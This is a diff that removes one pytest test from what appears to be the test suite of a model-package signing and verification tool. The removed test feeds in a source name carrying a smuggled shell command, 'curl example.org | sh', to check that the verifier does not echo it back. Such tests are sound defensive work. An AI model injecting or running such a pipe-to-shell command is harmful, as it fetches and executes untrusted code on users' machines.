@@ -128,15 +128,6 @@ def test_the_command_says_that_there_was_no_comparison(genuine: Path, mark: Path
     assert not mark.exists()
 
 
-@pytest.mark.process
-def test_a_name_that_is_no_plain_one_is_not_repeated(tmp_path: Path, release: Signer):
-    source = "net.py:Net; curl example.org | sh\nok"
-    path = write_artifact(tmp_path / "odd.pt2", Affine(), [(X, right(X))], source=source)
-    sign_package(path, release.key)
-    report = verify(path, VerifyOptions(trust=Trust([release.public])))
-    assert report.checks[-1].verdict.message.endswith("compare with --model MODEL")
-
-
 # --- package ----------------------------------------------------------------------------------------------------------
 
 
